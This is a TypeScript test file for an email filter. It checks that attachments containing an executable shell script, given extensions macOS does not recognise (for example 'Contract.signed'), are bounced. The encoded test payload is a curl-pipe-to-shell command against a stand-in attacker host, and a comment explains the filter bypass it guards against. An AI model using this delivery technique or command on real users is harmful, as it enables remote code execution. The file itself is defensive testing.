import { describe, expect, it } from 'vitest';
import { attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A44-8: a shell script with `x-unix-mode=0755` (Apple Mail restores the mode on save) under a name whose
// "extension" no macOS app claims (`Contract.signed`, `Statement.nov`, `Scan.v2`). docs (file-names.ts
// opensByExtensionOnMac) say Finder runs an executable file in Terminal "without an extension, or with one it does
// not know", but the check is only syntactic (a dot, 1–16 letters/digits with a letter): any such suffix counts as
// known, so the executable-mode rule is skipped. Delivered DEFAULT today.
const stack = useLocalStack();
const kit = attackerKit(stack);
const SH = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/p | sh\n').toString('base64');
const withMode = (name: string) =>
  mail(
    [MIXED],
    withPart(
      `Content-Type: application/octet-stream; x-unix-mode=0755; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${SH}`,
    ),
  );

describe('A44-8: an executable-mode file under an extension macOS does not know', () => {
  for (const name of ['Contract.signed', 'Statement.nov', 'Scan.v2', 'report.q3']) {
    it(`refuses ${name}`, async () => {
      expect((await kit.inbound(withMode(name))).verdict).toBe('BOUNCE');
    });
  }
  it('control: no extension is refused', async () => {
    expect((await kit.inbound(withMode('Contract'))).verdict).toBe('BOUNCE');
  });
});
